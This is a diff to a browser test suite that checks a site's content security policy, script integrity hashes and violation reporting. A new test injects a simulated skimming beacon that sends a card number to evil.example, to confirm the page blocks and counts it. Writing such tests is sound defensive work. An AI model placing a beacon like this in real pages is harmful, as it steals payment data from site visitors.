@@ -31,7 +31,11 @@ beforeAll(async () => {
     logLevel: 'error',
   });
   site = platform.urlOf('hilton');
-  browser = await chromium.launch(chromiumLaunch);
+  browser = await chromium.launch({
+    ...chromiumLaunch,
+    // Reports wait for a minute otherwise.
+    args: [...(chromiumLaunch.args ?? []), '--short-reporting-delay'],
+  });
 }, 240_000);
 afterAll(async () => {
   await browser?.close();
@@ -61,7 +65,7 @@ interface Opened {
 
 async function open(): Promise<Opened> {
   const context = await browser.newContext({ reducedMotion: 'reduce', serviceWorkers: 'block' });
-  let changes = (_: string) => false;
+  let changes: (path: string) => boolean = () => false;
   await context.route(
     ({ pathname }) => /\.(js|css)$/.test(pathname) && changes(pathname),
     async (route) => {
@@ -126,9 +130,8 @@ test('SEC-02.f each page with the site’s code names the hash of each of the si
     const pages = globSync('**/*.html', { cwd: built }).filter((path) => path !== 'offline/index.html');
     expect(pages.length).toBeGreaterThan(0);
     for (const path of pages) {
-      const [map] = inlineScripts(readFileSync(join(built, path), 'utf8')).filter(
-        ({ kind }) => kind === 'importMap',
-      );
+      const html = readFileSync(join(built, path), 'utf8');
+      const map = inlineScripts(html).find(({ kind }) => kind === 'importMap');
       expect([partner, path, JSON.parse(map?.text ?? '{}')]).toEqual([partner, path, { integrity }]);
     }
   }
@@ -208,3 +211,22 @@ test('SEC-02.d the secure frame runs neither its script nor its styles with anot
     .toEqual(['.css', '.js'].map((ending) => expect.stringMatching(`/field-[\\w-]+\\${ending}'`)));
   await page.context().close();
 }, 120_000);
+
+const counted = async () =>
+  (await (await fetch(`http://127.0.0.1:${platform.operationsPort}/metrics`)).text()).match(
+    /^tableside_violations_total\{partner="hilton".*$/gm,
+  ) ?? [];
+
+test('SEC-03.a SEC-03.c Chromium reports what the policy of a page and the hash of a script refuse, and the counter moves', async () => {
+  const { page, change } = await open();
+  change((path) => path.includes('/index-'));
+  await page.goto(site);
+  await page.getByRole('alert').waitFor();
+  await page.evaluate(() => {
+    new Image().src = 'https://evil.example/skim.png?card=4111';
+  });
+  await expect
+    .poll(async () => (await counted()).join('\n'), { timeout: 90_000 })
+    .toMatch(/kind="integrity",directive="script-src"\} [1-9][\s\S]*kind="policy",directive="img-src"\} 1/);
+  await page.context().close();
+}, 180_000);
